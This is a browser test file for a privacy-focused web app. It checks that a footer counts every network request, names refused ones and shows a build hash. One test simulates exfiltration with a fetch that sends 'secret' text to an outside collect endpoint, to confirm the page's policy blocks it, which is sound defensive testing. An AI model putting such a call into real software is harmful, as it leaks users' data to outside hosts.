// The footer's proofs are no constants: what is asked for is counted, what is refused is told, the build is named.

import { test, expect, STORY } from './desk.js';

test('a whole job makes no request, and the footer says so', async ({ desk, page }) => {
  await expect(page.locator('#requests')).toHaveText('0 requests since load: nothing was sent or fetched, by your browser’s own count.');
  await desk.sample();
  await desk.give(STORY);
  await page.getByLabel('Save as').selectOption('json');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(page.locator('#requests')).toHaveText(/^0 requests since load/);
  await expect(page.locator('#edition')).toHaveText(/^Build [0-9a-f]{12}: the same number means the same files/);
});

test('a request of the page is counted and named', async ({ desk, page }) => {
  await page.evaluate(() => fetch('icon.svg?text=secret').then((response) => response.text()));
  await expect(page.locator('#requests')).toHaveText(/^1 request since load: of http\S+\/icon\.svg\?text=secret, by your browser’s/);
  await expect(page.locator('body')).toHaveAttribute('data-requests', '1');
  desk.forgive();
});

test('a request that the policy refuses is told', async ({ desk, page }) => {
  await page.evaluate(() => fetch('https://example.org/collect?text=secret').catch(() => {}));
  await expect(page.locator('#requests')).toContainText('1 more was refused by the page’s own rules: https://example.org/collect');
  // Refused by the page's policy and by the server's.
  expect(await page.evaluate(() => window.violations.splice(0))).toEqual(['connect-src', 'connect-src']);
  desk.forgive();
});

test.describe('in a worker', () => {
  test.use({ stub: true });

  test('a request is counted too', async ({ desk, page }) => {
    await page.route('**/hold?*', (route) => route.fulfill({ body: '' }));
    await desk.field.fill('HOLD Anna');
    await desk.isReady();
    await expect(page.locator('#requests')).toHaveText(/^1 request since load: of http\S+\/hold\?HOLD/);
  });
});
